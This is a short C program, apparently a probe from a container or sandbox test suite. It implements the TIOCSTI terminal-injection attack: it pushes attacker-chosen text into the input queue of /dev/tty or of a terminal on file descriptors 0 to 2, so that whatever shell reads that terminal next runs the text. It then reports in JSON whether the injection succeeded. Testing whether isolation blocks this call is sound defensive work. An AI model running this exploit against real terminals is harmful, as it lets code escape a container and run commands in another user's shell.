/* tiocsti TEXT: the terminal-injection attack. Push every byte of TEXT into the input queue of our
 * controlling terminal (/dev/tty) or, failing that, of any terminal among fds 0-2, with TIOCSTI:
 * when this works from inside a container, whatever shell reads that terminal next runs TEXT.
 * Prints {"devtty":"ok"|errno,"fds":"ok"|"none"|errno,"injected":N}. Exit 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char *
name (int e)
{
  static char buf[16];
  switch (e)
    {
    case ENXIO: return "ENXIO";
    case EPERM: return "EPERM";
    case EIO: return "EIO";
    case ENOTTY: return "ENOTTY";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    default: snprintf (buf, sizeof buf, "E%d", e); return buf;
    }
}

static int
inject (int fd, const char *text, int *err)
{
  int n = 0;
  for (const char *p = text; *p; p++)
    {
      if (ioctl (fd, TIOCSTI, p) < 0)
        {
          *err = errno;
          return n;
        }
      n++;
    }
  *err = 0;
  return n;
}

int
main (int argc, char **argv)
{
  const char *text = argc > 1 ? argv[1] : "";
  char unescaped[1024];
  size_t k = 0;
  for (const char *p = text; *p && k + 1 < sizeof unescaped; p++)
    unescaped[k++] = (p[0] == '\\' && p[1] == 'n') ? (p++, '\n') : *p;
  unescaped[k] = '\0';
  int injected = 0, e = 0;
  const char *devtty = "ok", *fds = "none";
  int fd = open ("/dev/tty", O_RDWR | O_NOCTTY);
  if (fd < 0)
    devtty = name (errno);
  else
    {
      injected += inject (fd, unescaped, &e);
      devtty = e ? name (e) : "ok";
      close (fd);
    }
  static char fdres[16];
  for (int f = 0; f < 3; f++)
    if (isatty (f))
      {
        injected += inject (f, unescaped, &e);
        snprintf (fdres, sizeof fdres, "%s", e ? name (e) : "ok");
        fds = fdres;
        break;
      }
  printf ("{\"devtty\":\"%s\",\"fds\":\"%s\",\"injected\":%d}\n", devtty, fds, injected);
  return 0;
}
